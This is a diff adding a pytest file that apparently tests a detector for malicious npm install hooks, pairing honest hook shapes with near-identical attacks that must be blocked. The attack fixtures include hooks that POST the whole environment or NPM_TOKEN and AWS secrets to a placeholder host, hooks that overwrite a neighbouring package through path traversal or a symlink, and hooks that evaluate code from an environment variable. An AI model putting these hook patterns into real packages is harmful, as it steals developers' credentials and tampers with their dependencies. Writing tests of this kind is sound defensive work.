@@ -1,0 +1,98 @@
+"""Honest packages that were blocked once, each beside the attack that looks the same but for what makes it one."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.builders import Files
+from tests.evasions.packages import Seen, hooked, packages
+
+pytestmark = pytest.mark.semgrep
+
+COLLECTS = "https://collect.example.invalid/v1"
+SENDS = (
+    "const https = require('https');\nconst { allowed } = require('./allowed');\n"
+    f"function send(body) {{ const call = https.request('{COLLECTS}', {{ method: 'POST' }}); call.end(body); }}\n"
+)
+
+
+def reporting(does: str, allowed: str) -> Files:
+    """Make a hook that sends, and asks another file about the environment."""
+    return hooked("node a.js", {"a.js": SENDS + does, "allowed.js": allowed})
+
+
+def generating(place: str, write: str = "fs.writeFileSync(path.join(folder, 'index.js'), text)") -> Files:
+    """Make a hook that looks into the project and writes into a folder that another file is handed."""
+    main = (
+        "const fs = require('fs'), path = require('path');\nconst { write } = require('../lib/write');\n"
+        "const project = process.env.INIT_CWD || process.cwd();\n"
+        f"write({place}, fs.readFileSync(path.join(project, 'schema'), 'utf8'));\n"
+    )
+    writer = f"const fs = require('fs'), path = require('path');\nexports.write = (folder, text) => {write};\n"
+    return hooked("node scripts/a.js", {"scripts/a.js": main, "lib/write.js": writer})
+
+
+def probing(text: str) -> Files:
+    """Make a hook that has another node evaluate a text."""
+    start = "const path = require('path'), { spawnSync } = require('child_process');\n"
+    own = "const own = path.join(__dirname, '..', 'prebuilds', [process.platform, process.arch].join('-'), 'x.node');\n"
+    return hooked("node scripts/a.js", {"scripts/a.js": f"{start}{own}spawnSync(process.execPath, ['-e', {text}]);\n"})
+
+
+MAKEFILE = "PREFIX ?= ../build\ninstall: tool\n\tmkdir -p $(PREFIX)\n\tinstall -m 755 tool $(PREFIX)/tool\ntool: a.c\n\t$(CC) -o tool a.c\n"
+
+
+def made(prefix: str, before: str = "") -> Files:
+    """Make a package that make builds in a folder of its own, and installs beside it."""
+    return hooked(f"{before}make -C native install PREFIX={prefix}", {"native/Makefile": MAKEFILE, "native/a.c": ""})
+
+
+@packages(
+    counted=reporting(
+        "if (allowed(process.env)) send('1');", "exports.allowed = (env) => !env.DO_NOT_TRACK && !env.CI;"
+    ),
+    generated=generating("path.join(__dirname, '..', 'generated')"),
+    probed=probing("`require(${JSON.stringify(own)})`"),
+    made=made("../build"),
+)
+def test_an_honest_shape_is_not_blocked(seen: Seen) -> None:
+    assert not seen.blocked
+
+
+@packages(
+    whole=reporting("send(allowed(process.env));", "exports.allowed = (env) => JSON.stringify(env);"),
+    copied=reporting(
+        "send(allowed(process.env));",
+        "exports.allowed = (env) => { const all = {}; for (const k of Object.keys(env)) all[k] = env[k]; return all; };",
+    ),
+    kept=reporting(
+        "allowed(process.env); send(JSON.stringify(allowed.all));",
+        "exports.allowed = function allowed(env) { if (env.CI) return; exports.allowed.all = env; };",
+    ),
+    taken_back=reporting("send(allowed(process.env));", "exports.allowed = (env) => env.valueOf();"),
+    by_computed_name=reporting(
+        "send(allowed(process.env, 'NPM_TO' + 'KEN'));", "exports.allowed = (env, name) => env[name];"
+    ),
+    secrets=reporting(
+        "send(allowed(process.env));", "exports.allowed = (env) => env.NPM_TOKEN + env.AWS_SECRET_ACCESS_KEY;"
+    ),
+    replaced=reporting(
+        "const other = require('./allowed'); other.allowed = (env) => env;\nsend(JSON.stringify(other.allowed(process.env)));",
+        "exports.allowed = (env) => !env.CI;",
+    ),
+    beside=generating("path.join(__dirname, '..', '..', 'left-pad')"),
+    higher=generating(
+        "path.join(__dirname, '..', 'generated')",
+        "fs.writeFileSync(path.join(folder, '..', '..', 'left-pad', 'index.js'), text)",
+    ),
+    renamed=generating(
+        "path.join(__dirname, '..', 'generated')",
+        "fs.writeFileSync(path.resolve(folder, '../../left-pad/index.js'), text)",
+    ),
+    evaluated=probing("`${JSON.stringify(own)};${process.env.CODE}`"),
+    any_path=probing("`require(${JSON.stringify(process.env.OWN)})`"),
+    make_beside=made("../../left-pad"),
+    linked=made("../left-pad", before="ln -s ../../../other/native native && "),
+)
+def test_its_evil_twin_still_is(seen: Seen) -> None:
+    assert seen.blocked
